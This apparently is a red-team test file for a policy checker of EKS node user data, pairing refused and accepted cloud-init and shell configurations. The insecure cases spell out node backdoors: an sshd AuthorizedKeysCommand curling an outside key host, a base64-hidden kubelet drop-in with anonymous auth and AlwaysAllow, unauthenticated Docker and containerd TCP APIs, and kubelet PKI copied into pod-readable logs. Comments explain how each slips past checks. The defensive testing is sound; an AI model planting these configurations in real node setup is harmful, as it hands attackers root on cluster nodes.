// Red-team round 32 on EKS NODE user data and launchers (fresh eyes), against engine/userData.ts, engine/rootReads.ts
// and engine/shell.ts. Insecure shapes here write the node's own configuration (sshd, the kubelet, containerd, Docker)
// through systemd-tmpfiles (f/f+/w+ arguments, the `~` base64 modifier, directives piped on stdin) and dd(1), copy
// node secrets into /var/log with a tmpfiles `C` line, or hand root a pod-written swap file, loop image or binfmt
// interpreter. Secure neighbours must stay clean. Misses are `it.skip` with a MISS comment and the doc checked.
import { nodePolicyConfig } from "./packRunner";
import {
    al2023Nodes,
    clusterSpec,
    CLUSTER,
    describeNodeCases,
    EFFECTIVE,
    hostPathDaemonSet,
    mime,
    NodeCase,
    NON_ROOT,
    withCloudConfig,
    withScript,
} from "./nodeBuilders";
import { Resources } from "./support";

/** A restricted (non-root) log shipper DaemonSet reading the node's /var/log read-only (Fluent Bit's usual mount). */
const logShipper = (r: Resources) =>
    hostPathDaemonSet(r, "node-log-shipper", "node-agents", "/var/log", NON_ROOT, true, "Directory");

/** cloud-config writing tmpfiles.d file `name` with `lines`, then applying it (systemd-tmpfiles(8) --create FILE). */
const tmpfiles = (name: string, lines: string[], extra: string[] = []) =>
    withCloudConfig([
        ...extra,
        "write_files:",
        `  - path: /etc/tmpfiles.d/${name}`,
        "    content: |",
        ...lines.map(l => `      ${l}`),
        "runcmd:",
        `  - [systemd-tmpfiles, --create, /etc/tmpfiles.d/${name}]`,
    ]);

const b64 = (text: string) => Buffer.from(text).toString("base64");

/** A kubelet drop-in (KubeletConfiguration) as JSON on one line. */
const kubeletDropIn = (fields: object) =>
    JSON.stringify({ apiVersion: "kubelet.config.k8s.io/v1beta1", kind: "KubeletConfiguration", ...fields });

const dev = (name: string, edit: (r: Resources) => void, refused = /./, skip = false): NodeCase => ({
    name,
    stack: "dev",
    config: nodePolicyConfig,
    edit,
    refused,
    policy: EFFECTIVE,
    skip,
});

const insecure: NodeCase[] = [
    // Was a MISS (fixed in round 32): tmpfiles.d(5) "f+ ... If the argument parameter is given, it will be written to the file" and "Fields may
    // contain C-style escapes" (checked with systemd 252, AL2023's version: `systemd-tmpfiles --create` wrote both
    // lines; `%%u` is the tmpfiles escape for sshd's own %u). The result is the same sshd drop-in the pack refuses
    // from write_files/echo (AuthorizedKeysCommand fetching keys from a URL, round 30): whoever controls
    // keys.example.com logs in as ec2-user (passwordless sudo on AL2023). rootReads.ts tmpfiles() reads only the C/L
    // lines into data directories and data-directory mentions; an f/f+/w/w+ line's argument is never judged as what
    // root writes into its target.
    dev(
        "a tmpfiles.d f+ line writing an sshd drop-in with AuthorizedKeysCommand curl https://keys.example.com/%%u",
        r =>
            al2023Nodes(
                r,
                "dev-tmpfiles-sshd-nodes",
                tmpfiles("ops-ssh.conf", [
                    "f+ /etc/ssh/sshd_config.d/01-keys.conf 0600 root root - AuthorizedKeysCommand /usr/bin/curl -sf https://keys.example.com/%%u\\nAuthorizedKeysCommandUser nobody",
                ]),
            ),
        /AuthorizedKeysCommand|sshd|cannot read/,
    ),
    // Was a MISS (fixed in round 32): tmpfiles.d(5) "If the tilde character (~) is used, the argument ... is Base64 decoded before use" (f, f+,
    // w, w+; systemd 252 wrote the decoded JSON). nodeadm's kubelet reads drop-ins from
    // /etc/kubernetes/kubelet/config.json.d/ after its own 40-nodeadm.conf (amazon-eks-ami nodeadm test
    // "assert::json-files-equal /etc/kubernetes/kubelet/config.json.d/40-nodeadm.conf"); 90-debug.conf turns on
    // anonymous authentication and AlwaysAllow: port 10250 (exec into every pod on the node) for any caller. The same
    // JSON in plain text (write_files, or an f+ line) is refused; base64 hides it from every reader.
    dev(
        "a tmpfiles.d f~ line (base64 argument) writing a kubelet drop-in with anonymous auth and AlwaysAllow",
        r =>
            al2023Nodes(
                r,
                "dev-tmpfiles-b64-kubelet-nodes",
                tmpfiles("kubelet-debug.conf", [
                    `f~ /etc/kubernetes/kubelet/config.json.d/90-debug.conf 0644 root root - ${b64(
                        kubeletDropIn({
                            authentication: { anonymous: { enabled: true } },
                            authorization: { mode: "AlwaysAllow" },
                        }),
                    )}`,
                ]),
            ),
        /kubelet|cannot read|unreadable/,
    ),
    // Was a MISS (fixed in round 32): systemd-tmpfiles(8): "If "-" is specified instead of a filename, directives are read from standard input"
    // (checked with systemd 252). The directive writes a containerd drop-in with [grpc] tcp_address and no tcp_tls_ca,
    // which the pack refuses from write_files (round 26: the CRI API on TCP without TLS, any pod reaching the node IP
    // runs privileged containers); nodeadm's containerd config imports /etc/containerd/config.d/*.toml. The pipe into
    // systemd-tmpfiles is read as a program reading its stdin, not as the file it writes.
    dev(
        "printf of a tmpfiles f+ directive piped into systemd-tmpfiles --create - (containerd [grpc] tcp_address in config.d)",
        r =>
            al2023Nodes(
                r,
                "dev-tmpfiles-stdin-nodes",
                withScript([
                    "printf '%s\\n' 'f+ /etc/containerd/config.d/90-remote.toml 0644 root root - [grpc]\\n  tcp_address = \"0.0.0.0:10010\"' | systemd-tmpfiles --create -",
                ]),
            ),
        /containerd|tcp_address|cannot read|cannot judge/,
    ),
    // Was a MISS (fixed in round 32): tmpfiles.d(5) C "Recursively copy a file or directory, if the destination ... do not exist yet";
    // systemd-tmpfiles-setup.service applies /etc/tmpfiles.d at every boot, so from the first reboot the kubelet's
    // /var/lib/kubelet/pki (kept on the root volume) is copied into /var/log/node-debug, which the pack lets a
    // non-root DaemonSet read (read-only /var/log). Round 31 refuses exactly this copy done with `cp -a` (copies of
    // node secrets into /var/log); tmpfiles() refuses C lines only when their target is a data directory.
    dev(
        "a tmpfiles.d C line copying /var/lib/kubelet/pki into /var/log/node-debug, beside a non-root DaemonSet reading /var/log",
        r => {
            logShipper(r);
            al2023Nodes(
                r,
                "dev-tmpfiles-pki-varlog-nodes",
                tmpfiles("node-debug.conf", [
                    "d /var/log/node-debug 0755 root root -",
                    "C /var/log/node-debug/kubelet-pki - - - - /var/lib/kubelet/pki",
                ]),
            );
        },
        /\/var\/lib\/kubelet\/pki/,
    ),
    // Was a MISS (fixed in round 32): dd(1) "of=FILE write to FILE instead of stdout" (oflag=append with conv=notrunc appends). The drop-in is the
    // same AuthorizedKeysCommand the pack refuses from echo/tee/printf redirections (round 30); dd's output file is not
    // read as a write at all (an exec redirect to the same path is refused as unreadable content, dd is not).
    dev(
        "echo ... | dd of=/etc/ssh/sshd_config.d/01-keys.conf (AuthorizedKeysCommand curl https://keys.example.com/%u)",
        r =>
            al2023Nodes(
                r,
                "dev-dd-sshd-nodes",
                withScript([
                    "echo 'AuthorizedKeysCommand /usr/bin/curl -sf https://keys.example.com/%u' | dd of=/etc/ssh/sshd_config.d/01-keys.conf status=none",
                    "echo 'AuthorizedKeysCommandUser nobody' | dd of=/etc/ssh/sshd_config.d/01-keys.conf oflag=append conv=notrunc status=none",
                ]),
            ),
        /AuthorizedKeysCommand|sshd|cannot read/,
    ),
    // Was a MISS (fixed in round 32): the Docker API on TCP without TLS through /etc/docker/daemon.json `hosts` (round 31 refuses it from
    // write_files and dockerd -H; dockerd(8), daemon.json "hosts"), written here with dd of= so the pack never sees
    // the write. Any pod reaching the node IP on 2375 starts a privileged container with / mounted.
    dev(
        'dnf install docker, then echo \'{"hosts": [..., "tcp://0.0.0.0:2375"]}\' | dd of=/etc/docker/daemon.json',
        r =>
            al2023Nodes(
                r,
                "dev-dd-docker-nodes",
                withScript([
                    "dnf install -y docker",
                    'echo \'{"hosts": ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"]}\' | dd of=/etc/docker/daemon.json status=none',
                    "mkdir -p /etc/systemd/system/docker.service.d",
                    "printf '[Service]\\nExecStart=\\nExecStart=/usr/bin/dockerd --containerd=/run/containerd/containerd.sock\\n' > /etc/systemd/system/docker.service.d/10-hosts.conf",
                    "systemctl daemon-reload",
                    "systemctl enable --now docker",
                ]),
            ),
        /docker|2375|cannot read|cannot judge/,
    ),
    // Was a MISS (fixed in round 32): the same daemon.json written by a tmpfiles.d f+ line (tmpfiles.d(5) f+ writes the argument).
    dev(
        "a tmpfiles.d f+ line writing /etc/docker/daemon.json with hosts tcp://0.0.0.0:2375 (cloud-config packages: [docker])",
        r =>
            al2023Nodes(
                r,
                "dev-tmpfiles-docker-nodes",
                tmpfiles(
                    "docker.conf",
                    [
                        'f+ /etc/docker/daemon.json 0644 root root - {"hosts": ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"]}',
                    ],
                    ["packages:", "  - docker"],
                ),
            ),
        /docker|2375|cannot read|cannot judge/,
    ),
    // cloud-init cc_mounts `swap:` (cloud-init module reference, "Mounts": filename, size, maxsize) makes and enables a
    // swap file; on /mnt (the instance-store disk cloud-init mounts there) a root pod writing /mnt reads the swapped
    // pages of every node process (the kubelet's, other pods' tokens). Refused (the swap file is read by root).
    dev(
        "cloud-config swap: {filename: /mnt/swapfile} (swap on the instance-store disk at /mnt, which pods may write)",
        r =>
            al2023Nodes(
                r,
                "dev-swap-mnt-nodes",
                withCloudConfig(["swap:", "  filename: /mnt/swapfile", "  size: 4294967296", "  maxsize: 4294967296"]),
            ),
        /\/mnt\/swapfile/,
    ),
    // mount(8) -o loop: a filesystem image a pod wrote, mounted at a node path root then runs from (setuid files and a
    // crafted filesystem included). Refused.
    dev(
        "mount -o loop,ro /data/images/tools.img /opt/tools, then /opt/tools/bin/node-tools run as root",
        r =>
            al2023Nodes(
                r,
                "dev-loop-image-nodes",
                withScript([
                    "mkdir -p /opt/tools",
                    "mount -o loop,ro /data/images/tools.img /opt/tools",
                    "/opt/tools/bin/node-tools setup",
                ]),
            ),
        /\/data\/images\/tools\.img/,
    ),
    // binfmt.d(5)/binfmt_misc: the interpreter named in a registration runs for every matching binary, with the
    // binary's credentials under the C flag (setuid-root foreign binaries run it as root). Refused.
    dev(
        "a binfmt.d registration whose interpreter is /srv/qemu/qemu-arm-static (flags OCF)",
        r =>
            al2023Nodes(
                r,
                "dev-binfmt-srv-nodes",
                withCloudConfig([
                    "write_files:",
                    "  - path: /etc/binfmt.d/qemu-arm.conf",
                    "    content: |",
                    "      :qemu-arm:M::\\x7fELF\\x01\\x01\\x01:\\xff\\xff\\xff\\xff\\xff\\xff\\xff:/srv/qemu/qemu-arm-static:OCF",
                    "runcmd:",
                    "  - [systemctl, restart, systemd-binfmt]",
                ]),
            ),
        /\/srv\/qemu\/qemu-arm-static/,
    ),
];

const secure: NodeCase[] = [
    // Round 84 (superseded DECIDED): a kubelet drop-in of known KubeletConfiguration JSON is judged as NodeConfig's
    // spec.kubelet.config (redteam84-node S20: a drop-in changes only what it sets, over nodeadm's own), so this one,
    // maxPods only, is accepted. Round 32's reasoning was: kubelet configuration written by user data is refused whatever it says, however it is written
    // (write_files, echo, a tmpfiles.d line): the pack cannot merge a drop-in with the kubelet's own configuration;
    // set kubelet settings in the NodeConfig (spec.kubelet.config), which is judged.
    {
        name: "DECIDED: a tmpfiles.d f~ line (base64) writing a kubelet drop-in that only sets maxPods: 58",
        stack: "dev",
        config: nodePolicyConfig,
        edit: r =>
            al2023Nodes(
                r,
                "dev-tmpfiles-maxpods-nodes",
                tmpfiles("kubelet-pods.conf", [
                    `f~ /etc/kubernetes/kubelet/config.json.d/90-pods.conf 0644 root root - ${b64(
                        kubeletDropIn({ maxPods: 58 }),
                    )}`,
                ]),
            ),
    },
    {
        name: "a tmpfiles.d file making /data/validator and writing an sshd hardening drop-in (PasswordAuthentication no)",
        stack: "dev",
        config: nodePolicyConfig,
        edit: r =>
            al2023Nodes(
                r,
                "dev-tmpfiles-harden-nodes",
                tmpfiles("validator.conf", [
                    "d /data/validator 0750 10001 10001 -",
                    "f+ /etc/ssh/sshd_config.d/01-cis.conf 0600 root root - PasswordAuthentication no\\nPermitRootLogin no",
                ]),
            ),
    },
    {
        name: "a swap file at /swapfile (dd, mkswap, swapon, fstab) with NodeConfig failSwapOn: false and LimitedSwap",
        stack: "dev",
        config: nodePolicyConfig,
        edit: r =>
            al2023Nodes(
                r,
                "dev-swapfile-nodes",
                mime([
                    {
                        type: 'text/x-shellscript; charset="us-ascii"',
                        body: [
                            "#!/bin/bash",
                            "set -euo pipefail",
                            "dd if=/dev/zero of=/swapfile bs=1M count=4096 status=none",
                            "chmod 600 /swapfile",
                            "mkswap /swapfile",
                            "swapon /swapfile",
                            "echo '/swapfile none swap sw 0 0' >> /etc/fstab",
                        ].join("\n"),
                    },
                    {
                        type: "application/node.eks.aws",
                        body: [
                            "apiVersion: node.eks.aws/v1alpha1",
                            "kind: NodeConfig",
                            "spec:",
                            ...clusterSpec(CLUSTER.dev),
                            "  kubelet:",
                            "    config:",
                            "      failSwapOn: false",
                            "      memorySwap:",
                            "        swapBehavior: LimitedSwap",
                        ].join("\n"),
                    },
                ]),
            ),
    },
    {
        name: "a tmpfiles.d file in write_files creating /run/spire and /run/spire/sockets (d lines)",
        stack: "dev",
        config: nodePolicyConfig,
        edit: r =>
            al2023Nodes(
                r,
                "dev-tmpfiles-spire-nodes",
                tmpfiles("spire.conf", ["d /run/spire 0755 root root -", "d /run/spire/sockets 0755 root root -"]),
            ),
    },
    // Was a MISS (fixed in round 32; secure, was refused): systemd-tmpfiles(8) reads directives from stdin with "-"; `d` lines only create
    // directories (tmpfiles.d(5) "d Create a directory"). The same two lines written to /etc/tmpfiles.d/spire.conf are
    // accepted (case above); piped on stdin they are refused as "a root process read /run/spire".
    {
        name: "printf 'd /run/spire ...' 'd /data/validator ...' | systemd-tmpfiles --create - (directories only)",
        stack: "dev",
        config: nodePolicyConfig,
        edit: r =>
            al2023Nodes(
                r,
                "dev-tmpfiles-stdin-dirs-nodes",
                withScript([
                    "printf '%s\\n' 'd /run/spire 0755 root root -' 'd /data/validator 0750 10001 10001 -' | systemd-tmpfiles --create -",
                ]),
            ),
    },
    // Was a MISS (fixed in round 32; secure, was refused): fallocate(1) "preallocate or deallocate space to a file": a ballast/reservation file in
    // the validator's data directory, owned by the validator; it reads and runs nothing (copies INTO a data directory,
    // dd of= into it and chown are accepted). Refused as "a root process of the node read
    // /data/validator/ledger.reserve".
    {
        name: "fallocate -l 8G /data/validator/ledger.reserve (a space reservation in the data directory), chown to the validator",
        stack: "dev",
        config: nodePolicyConfig,
        edit: r =>
            al2023Nodes(
                r,
                "dev-fallocate-data-nodes",
                withScript([
                    "mkdir -p /data/validator",
                    "fallocate -l 8G /data/validator/ledger.reserve",
                    "chown 10001:10001 /data/validator/ledger.reserve",
                ]),
            ),
    },
];

describeNodeCases("red team round 32: EKS node user data and launchers", insecure, secure);
